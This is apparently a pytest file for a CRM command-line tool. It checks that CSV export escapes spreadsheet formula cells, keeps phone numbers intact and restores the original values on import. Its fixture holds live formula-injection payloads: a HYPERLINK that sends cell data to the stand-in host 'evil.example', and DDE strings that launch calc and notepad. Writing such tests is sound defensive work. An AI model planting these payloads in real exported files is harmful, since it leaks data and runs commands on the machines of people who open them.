"""CSV formula injection: `pcrm export csv` wrote `=HYPERLINK(...)`, `@`, `+`, `-` cells as they were, and a
spreadsheet opening the file would run them. Such cells now start with an apostrophe; phone numbers do
not; `--no-escape-formulas` writes cells as stored; the import of pcrm's own CSV reads them back
[csv-formulas]."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from pcrm.formats.generic_csv import spreadsheet_safe, unescape_formula

EVIL = {
    "full_name": '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "company": "@SUM(1+1)*cmd|' /C calc'!A0",
    "title": "+cmd|' /C notepad'!A0",
    "notes": "-2+3+cmd|' /C calc'!A0",
}


def _add(cli: Any) -> None:
    cli(
        "contacts",
        "add",
        "--name=" + EVIL["full_name"],
        "--company=" + EVIL["company"],
        "--title=" + EVIL["title"],
        "--notes=" + EVIL["notes"],
        "--phone",
        "+44 20 7946 0958",
    )


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_formula_cells_are_neutralised_and_phones_kept(crm: Any, tmp_path: Any) -> None:
    _add(crm.cli)
    out = tmp_path / "contacts.csv"
    crm.cli("export", "csv", "--output", str(out))
    (row,) = _rows(out.read_text())
    for key, value in EVIL.items():
        col = next(k for k in row if row[k].endswith(value))
        assert row[col] == "'" + value, (key, row[col])
    assert "+44 20 7946 0958" in row.values()
    assert not any(v.startswith(("=", "@", "+cmd", "-2")) for v in row.values())


def test_no_escape_formulas_writes_cells_as_stored(crm: Any) -> None:
    _add(crm.cli)
    (row,) = _rows(crm.cli("export", "csv", "--no-escape-formulas").stdout)
    assert EVIL["full_name"] in row.values() and EVIL["company"] in row.values()


def test_the_escaped_file_imports_back_to_the_same_values(crm: Any, tmp_path: Any, monkeypatch: Any) -> None:
    _add(crm.cli)
    out = tmp_path / "contacts.csv"
    crm.cli("export", "csv", "--output", str(out))
    monkeypatch.setenv("PCRM_HOME", str(tmp_path / "other"))
    crm.cli("init")
    crm.cli("import", str(out))
    (c,) = crm.cli.json("contacts", "list")["data"]
    assert c["full_name"] == EVIL["full_name"] and c["company"] == EVIL["company"]
    assert c["title"] == EVIL["title"] and c["notes"] == EVIL["notes"]


@pytest.mark.parametrize(
    "cell",
    ["=1+1", "'=1+1", "''@SUM(1)", "'+41 79 555 12 12", "'plain", "it's", "-", "+41 79 555 12 12", ""],
)
def test_the_guard_is_undone_exactly(cell: str) -> None:
    """What the import reads back is the cell as stored, a leading apostrophe of its own included."""
    assert unescape_formula(spreadsheet_safe(cell)) == cell


def test_a_lone_dash_is_no_formula() -> None:
    """The dash a list writes for none (`last`: -) stays a dash, not `'-`."""
    assert spreadsheet_safe("-") == "-"
    assert spreadsheet_safe("-x") == "'-x"
